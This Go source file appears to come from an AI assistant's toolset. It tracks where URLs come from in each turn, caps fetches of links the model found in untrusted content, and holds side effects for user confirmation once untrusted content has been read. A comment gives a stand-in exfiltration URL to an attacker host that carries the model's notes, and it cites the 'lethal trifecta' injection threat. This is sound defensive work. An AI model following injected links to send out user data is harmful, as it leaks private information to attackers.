package tools

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"sync"

	"github.com/askygo/asky/internal/fetch"
)

// DefaultUntrustedFetches is how many URLs per turn the model may fetch
// that no trusted source gave it (the question, the user's earlier
// messages, search results): links it read inside fetched content, or
// made up, such as https://attacker.example/exfil?d=<your notes>.
const DefaultUntrustedFetches = 3

// Provenance is the per-turn record of where content came from, kept by
// the engine (reliability.md §3.4, the "lethal trifecta"): whether the
// model has read untrusted content yet (so side effects such as saving a
// memory are held for the user's confirmation), and which URLs came from
// a trusted source. Its methods are safe on a nil receiver, which behaves
// as a turn without tracking.
type Provenance struct {
	mu      sync.Mutex
	known   map[string]bool
	budget  int
	spent   map[string]bool
	tainted string
	notices []string
}

// NewProvenance starts a turn's record; the URLs in trusted (the question,
// piped input, the user's earlier messages) are known from the start.
func NewProvenance(budget int, trusted ...string) *Provenance {
	p := &Provenance{known: map[string]bool{}, spent: map[string]bool{}, budget: budget}
	for _, t := range trusted {
		p.Learn(t)
	}
	return p
}

type provenanceKey struct{}

// WithProvenance returns ctx carrying p, for the tools of the turn.
func WithProvenance(ctx context.Context, p *Provenance) context.Context {
	return context.WithValue(ctx, provenanceKey{}, p)
}

// ProvenanceFrom returns the turn's record, or nil.
func ProvenanceFrom(ctx context.Context) *Provenance {
	p, _ := ctx.Value(provenanceKey{}).(*Provenance)
	return p
}

var provURLRe = regexp.MustCompile(`https?://[^\s<>()\[\]"'` + "`" + `]+`)

func urlKey(u string) string {
	u = strings.TrimRight(u, ".,;:!?")
	if k, err := fetch.Normalize(u); err == nil {
		return k
	}
	return u
}

// Learn marks the URLs in text as coming from a trusted source.
func (p *Provenance) Learn(text string) {
	if p == nil {
		return
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, u := range provURLRe.FindAllString(text, -1) {
		p.known[urlKey(u)] = true
	}
}

// Taint records that the model read untrusted content from source.
func (p *Provenance) Taint(source string) {
	if p == nil {
		return
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.tainted == "" {
		p.tainted = source
	}
}

// Tainted names the first untrusted source the turn read ("" if none).
func (p *Provenance) Tainted() string {
	if p == nil {
		return ""
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.tainted
}

// Admit decides whether the model may fetch u. A URL from a trusted
// source always may; any other spends the turn's budget of untrusted
// fetches (and is reported to the user), and is refused once it is spent.
func (p *Provenance) Admit(u string) error {
	if p == nil {
		return nil
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	k := urlKey(u)
	if p.known[k] || p.spent[k] {
		return nil
	}
	if len(p.spent) >= p.budget {
		return fmt.Errorf("not fetched: %s did not come from the question or a search result, and this turn already fetched %d such URLs (ask again naming the URL to read it)", u, p.budget)
	}
	p.spent[k] = true
	p.notices = append(p.notices, fmt.Sprintf("fetching %s: a URL the model took from fetched content, not from you or a search (%d of %d this turn)", u, len(p.spent), p.budget))
	return nil
}

// Notify queues a notice for the user.
func (p *Provenance) Notify(msg string) {
	if p == nil {
		return
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	p.notices = append(p.notices, msg)
}

// Drain returns and forgets the queued notices.
func (p *Provenance) Drain() []string {
	if p == nil {
		return nil
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	n := p.notices
	p.notices = nil
	return n
}

// fetchedURLs lists the http(s) URLs a web tool call would fetch.
func fetchedURLs(args json.RawMessage) []string {
	var out []string
	for _, u := range rawURLArgs(args) {
		if l := strings.ToLower(u); strings.HasPrefix(l, "http://") || strings.HasPrefix(l, "https://") || !strings.Contains(l, "://") {
			out = append(out, u)
		}
	}
	return out
}
